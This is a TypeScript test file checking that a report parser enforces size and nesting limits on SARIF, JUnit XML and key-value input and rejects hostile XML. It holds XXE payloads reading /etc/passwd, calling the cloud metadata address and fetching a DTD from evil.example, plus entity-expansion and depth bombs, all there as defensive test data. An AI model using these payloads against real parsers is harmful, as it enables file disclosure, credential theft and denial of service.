import { describe, expect, it } from "vitest";
import { parseReport } from "./parse-report.ts";
import type { ReportFormat } from "./report-format.ts";

function flawOf(text: string, format?: ReportFormat): string | undefined {
  const bytes = new TextEncoder().encode(text);
  return parseReport({ path: "r", bytes, ...(format === undefined ? {} : { format }) }).flaw?.reason;
}

const times = (count: number, part: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => part(index)).join("");
const run = '{"tool":{"driver":{"name":"T"}},"results":[]}';
const sarif = (runs: string): string => `{"version":"2.1.0","runs":[${runs}]}`;
const results = (count: number): string =>
  sarif(`{"tool":{"driver":{"name":"T"}},"results":[${times(count, () => "{},").slice(0, -1)}]}`);
const nested = (depth: number): string =>
  `<testsuite>${"<a>".repeat(depth - 2)}<b/>${"</a>".repeat(depth - 2)}<testcase/></testsuite>`;

/** Each at its limit, and one more (T20). */
const limits: readonly (readonly [string, (over: number) => string, RegExp])[] = [
  ["20 runs", (over) => sarif(times(20 + over, (index) => (index === 0 ? run : `,${run}`))), /20/],
  ["25,000 results", (over) => results(25_000 + over), /25001 results/],
  [
    "64 levels of JSON",
    (over) => sarif(`${run.slice(0, -1)},"x":${"[".repeat(62 + over)}${"]".repeat(62 + over)}}`),
    /deeper than 64/,
  ],
  ["64 levels of XML", (over) => nested(64 + over), /deeper than 64/],
  [
    "500,000 elements",
    (over) => `<testsuite>${"<testcase/>".repeat(499_999 + over)}</testsuite>`,
    /500000 elements/,
  ],
  [
    "1,000 attributes",
    (over) => `<testsuite ${times(1_000 + over, (index) => `a${index}="" `)}><testcase/></testsuite>`,
    /1000 attributes/,
  ],
  [
    "1 MB of text",
    (over) => `<testsuite><testcase/>${"x".repeat(1_048_576 + over)}</testsuite>`,
    /longer than 1048576/,
  ],
  ["2,000 values", (over) => times(2_000 + over, (index) => `v${index}=1\n`), /more than 2000 values/],
];

describe("parseReport() at a limit", () => {
  it.each(limits)("of %s reads what is just that, and refuses one more", (_, of, reason) => {
    expect(flawOf(of(0))).toBeUndefined();
    expect(flawOf(of(1))).toMatch(reason);
  });
});

const laughs = times(9, (index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`);

/** Seven ways to make an XML reader fetch, grow or hang (T19). */
const attacks: readonly (readonly [string, string])[] = [
  [
    "a billion laughs",
    `<!DOCTYPE t [<!ENTITY l0 "lol">${laughs}]><testsuite><testcase name="&l9;"/></testsuite>`,
  ],
  [
    "quadratic growth",
    `<!DOCTYPE t [<!ENTITY a "${"a".repeat(50_000)}">]><testsuite>${"&a;".repeat(50_000)}</testsuite>`,
  ],
  ["a file from outside", '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite>&x;</testsuite>'],
  ["an address", '<!DOCTYPE t [<!ENTITY x SYSTEM "http://169.254.169.254/">]><testsuite>&x;</testsuite>'],
  ["a parameter entity", '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><testsuite/>'],
  ["depth", "<testsuite>".repeat(100_000)],
  ["width", `<testsuite ${times(100_000, (index) => `a${index}="" `)}/>`],
];

describe("parseReport() under attack by XML", () => {
  it.each(attacks)(
    "refuses %s at once",
    (_, text) => {
      expect(flawOf(text, "junit")).toBeTypeOf("string");
    },
    5_000,
  );
});
